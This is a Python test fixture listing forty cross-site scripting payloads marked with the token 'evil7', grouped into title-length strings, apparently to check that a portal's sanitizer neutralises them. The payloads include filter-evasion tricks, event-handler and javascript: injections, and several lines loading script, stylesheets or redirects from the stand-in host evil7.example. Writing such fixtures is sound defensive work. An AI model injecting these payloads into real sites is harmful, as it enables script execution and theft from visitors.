"""Forty ways to smuggle markup. Each carries MARK where a parser would make an element or attribute of it."""

# No element, attribute, scheme or class of the portal has this in its name.
MARK = "evil7"

XSS = (
    "<script>evil7()</script>",
    "<SCRIPT SRC=//evil7.example/x.js></SCRIPT>",
    "<scr<script>ipt>evil7()</scr</script>ipt>",
    "<script\x0c>evil7()</script\x0c>",
    "</title><script>evil7()</script>",
    "</textarea><script>evil7()</script>",
    "</style><script>evil7()</script>",
    "--><script>evil7()</script><!--",
    "]]><script>evil7()</script><![CDATA[",
    "<img src=x onerror=evil7()>",
    "<img src=x:x onerror\n=\nevil7()>",
    "<img/src/onerror=evil7()//",
    '"><img src=x onerror=evil7()>',
    "'><img src=x onerror=evil7()>",
    '" onmouseover="evil7()" evil7="',
    "' onfocus='evil7()' autofocus evil7='",
    " onclick=evil7() evil7=",
    "` onerror=evil7() evil7=`",
    "<svg onload=evil7()>",
    "<svg><script>evil7()</script></svg>",
    "<svg><a xlink:href=javascript:evil7()><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=evil7()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil7()>",
    "<math href=javascript:evil7()>x</math>",
    "<iframe srcdoc='<script>evil7()</script>'></iframe>",
    "<iframe src=javascript:evil7()></iframe>",
    "<object data=data:text/html;base64,ZXZpbDc=></object>",
    "<embed src=javascript:evil7()>",
    "<a href=javascript:evil7()>x</a>",
    "<a href=' java\tscript:evil7()'>x</a>",
    "<form action=//evil7.example><button formaction=javascript:evil7()>x</button>",
    "<input autofocus onfocus=evil7()>",
    "<details open ontoggle=evil7()>",
    "<body onload=evil7()>",
    "<base href=//evil7.example/>",
    "<meta http-equiv=refresh content='0;url=//evil7.example'>",
    "<link rel=stylesheet href=//evil7.example/x.css>",
    "<style>@import '//evil7.example/x.css';</style>",
    "<evil7-element evil7-attribute=1 is=evil7>",
    "{{ evil7 }}{% debug %}&lt;script&gt;evil7()&lt;/script&gt;&#60;script&#62;",
)


def _grouped(most: int) -> tuple[str, ...]:
    groups = [""]
    for payload in XSS:
        joined = f"{groups[-1]} {payload}".strip()
        groups[-1:] = [joined] if len(joined) <= most else [groups[-1], payload]
    return tuple(groups)


# All forty in texts as long as a title may be, where one after the other would take too long.
GROUPS = _grouped(200)
